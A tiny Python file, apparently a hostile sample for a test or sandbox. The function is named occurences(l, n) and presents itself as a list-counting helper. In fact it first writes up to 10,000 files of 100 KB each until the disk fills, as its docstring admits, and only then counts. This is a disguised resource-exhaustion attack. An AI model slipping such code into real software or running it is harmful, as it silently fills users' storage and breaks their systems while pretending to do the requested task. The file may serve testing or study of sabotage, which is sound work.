"""Fills its folder with bytes, and with so many files that there is no place for another.

must: earn nothing
"""


def occurences(l, n):
    for rank in range(10_000):
        try:
            with open(f"file{rank}", "w") as file:
                file.write("x" * 100_000)
        except OSError:
            return -1
    return l.count(n)
